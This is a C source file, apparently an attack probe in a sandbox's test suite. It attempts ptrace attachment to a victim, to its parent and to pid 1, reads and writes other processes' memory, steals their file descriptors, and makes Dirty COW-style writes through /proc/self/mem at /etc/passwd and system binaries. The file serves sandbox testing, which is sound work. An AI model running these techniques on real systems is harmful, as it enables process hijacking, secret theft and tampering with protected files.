/*
 * Reaching into other processes: the victim outside, nacre's own (parent, pid 1), and memory that
 * is not meant to be written.
 */
#include "attack.h"
#include <linux/kcmp.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

static pid_t targets[3];
static const char *const target_names[] = {"victim", "parent", "pid 1"};

static void find_targets(void)
{
	targets[0] = (pid_t)world_number("victim");
	targets[1] = getppid();
	targets[2] = 1;
}

/* Without a box the parent is the test and pid 1 the machine's: a signal to stop comes with it, and
 * both would stay stopped. */
static void attach(void)
{
	size_t count = world_number("boxed") ? count_of(targets) : 1;

	find_targets();
	for (size_t i = 0; i < count; i++) {
		errno = 0;
		if (ptrace(PTRACE_ATTACH, targets[i], 0, 0) == 0) {
			got("ptrace attached to %s", target_names[i]);
			waitpid(targets[i], NULL, __WALL); /* what runs cannot be let go */
			ptrace(PTRACE_DETACH, targets[i], 0, 0);
		} else {
			no("ptrace attach");
		}
		if (ptrace(PTRACE_SEIZE, targets[i], 0, 0) == 0) {
			got("ptrace seized %s", target_names[i]);
			ptrace(PTRACE_DETACH, targets[i], 0, 0);
		} else {
			no("ptrace seize");
		}
	}
}

/* A tracer could change the calls of its child after the filter has looked at them. */
static void trace_child(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (told("ptrace traceme", ptrace(PTRACE_TRACEME, 0, 0, 0)))
			raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, NULL, WUNTRACED);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void read_memory(void)
{
	char buf[128] = "";
	struct iovec here = {buf, sizeof(buf) - 1};
	struct iovec there = {(void *)(uintptr_t)strtoul(world("victim_secret"), NULL, 0), 100};
	ssize_t n = process_vm_readv((pid_t)world_number("victim"), &here, 1, &there, 1, 0);

	if (n > 0)
		printf("victim's memory: %s\n", buf);
	else
		no("process_vm_readv");
	/* The parent began as the same program or is a shell: any byte of it is too much. */
	there = (struct iovec){(void *)(uintptr_t)&targets, 8};
	find_targets();
	for (size_t i = 1; i < count_of(targets); i++)
		if (process_vm_readv(targets[i], &here, 1, &there, 1, 0) > 0)
			got("memory of %s", target_names[i]);
}

static void write_memory(void)
{
	char text[] = "pwned";
	struct iovec here = {text, sizeof(text)};
	struct iovec there = {(void *)(uintptr_t)strtoul(world("victim_secret"), NULL, 0),
	                      sizeof(text)};

	if (process_vm_writev((pid_t)world_number("victim"), &here, 1, &there, 1, 0) > 0)
		got("process_vm_writev");
	else
		no("process_vm_writev");
}

static void memory_files(void)
{
	char path[64], buf[128] = "";
	off_t at = (off_t)strtoul(world("victim_secret"), NULL, 0);
	int fd;

	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		snprintf(path, sizeof(path), "/proc/%d/mem", targets[i]);
		fd = open(path, O_RDWR);
		if (!told(path, fd))
			continue;
		if (i == 0 && pread(fd, buf, sizeof(buf) - 1, at) > 0)
			printf("victim's memory: %s\n", buf);
	}
	for (size_t i = 0; i < count_of(targets); i++) {
		for (size_t j = 0; j < 5; j++) {
			static const char *const names[] = {"maps", "auxv", "syscall", "stack",
			                                    "environ"};

			snprintf(path, sizeof(path), "/proc/%d/%s", targets[i], names[j]);
			fd = open(path, O_RDONLY);
			if (fd >= 0 && read(fd, buf, sizeof(buf) - 1) > 0)
				got("%s of %s: %.30s", names[j], target_names[i], buf);
		}
	}
}

static void pidfd_getfd_(void)
{
	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		int pidfd = (int)syscall(SYS_pidfd_open, targets[i], 0);

		if (pidfd < 0) {
			no("pidfd_open");
			continue;
		}
		for (int fd = 0; fd < 32; fd++) {
			int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

			if (stolen < 0) {
				if (fd == 0)
					no("pidfd_getfd");
				continue;
			}
			got("descriptor %d of %s", fd, target_names[i]);
			if (i == 0)
				lseek(stolen, 0, SEEK_SET);
			fcntl(stolen, F_SETFL, O_NONBLOCK);
			show_fd(stolen, "stolen");
		}
	}
}

static void descriptors(void)
{
	char path[64], what[256];

	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		for (int fd = 0; fd < 32; fd++) {
			ssize_t n;

			snprintf(path, sizeof(path), "/proc/%d/fd/%d", targets[i], fd);
			n = readlink(path, what, sizeof(what) - 1);
			if (n < 0)
				continue;
			what[n] = 0;
			got("%s -> %s", path, what);
			show(path);
		}
	}
}

static void compare(void)
{
	find_targets();
	for (size_t i = 0; i < count_of(targets); i++)
		told("kcmp", syscall(SYS_kcmp, getpid(), targets[i], KCMP_FILES, 0, 0));
}

/* Writes through /proc/self/mem go past the protection of the mapping; the file must not change. */
static void write_self(void)
{
	const char *paths[] = {world("protected"), "/etc/passwd", "/proc/self/exe", world("beside"),
	                       "/bin/true"};

	for (size_t i = 0; i < count_of(paths); i++) {
		int fd = open(paths[i], O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
		char *map = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		char *shared = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);

		if (map == MAP_FAILED || mem < 0) {
			no(paths[i]);
			continue;
		}
		for (int turn = 0; turn < 200; turn++) { /* as the race of 2016 did */
			if (pwrite(mem, "pwned", 5, (off_t)(uintptr_t)map) < 0)
				break;
			madvise(map, 4096, MADV_DONTNEED);
		}
		if (pwrite(mem, "pwned", 5, (off_t)(uintptr_t)shared) > 0)
			printf("wrote to a shared mapping of %s\n", paths[i]);
		if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
			got("a writable mapping of %s", paths[i]);
		if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0)
			got("a mapping of %s made writable", paths[i]);
		close(fd);
		close(mem);
	}
}

static const struct attempt all[] = {
	{"attach", attach},
	{"trace_child", trace_child},
	{"read_memory", read_memory},
	{"write_memory", write_memory},
	{"memory_files", memory_files},
	{"pidfd_getfd", pidfd_getfd_},
	{"descriptors", descriptors},
	{"compare", compare},
	{"write_self", write_self},
};

int main(int argc, char **argv)
{
	return attack(argc, argv, all, count_of(all));
}
